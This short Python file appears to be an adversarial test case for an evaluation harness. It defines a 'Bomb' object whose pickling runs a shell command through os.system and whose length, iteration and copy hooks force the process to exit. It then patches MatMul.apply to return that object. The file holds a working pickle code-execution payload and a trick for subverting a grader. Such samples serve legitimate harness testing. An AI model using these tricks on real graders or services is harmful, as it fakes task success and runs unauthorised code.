# /// attack
# tries = "answers with objects whose pickling, copying, length and iteration run code"
# slow = true
# ///
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/@token@",)

    def __len__(self):
        os._exit(0)

    __iter__ = __copy__ = __deepcopy__ = __getstate__ = __len__

    def __getattr__(self, name):
        raise SystemExit(0)


MatMul.apply = lambda *_: Bomb()
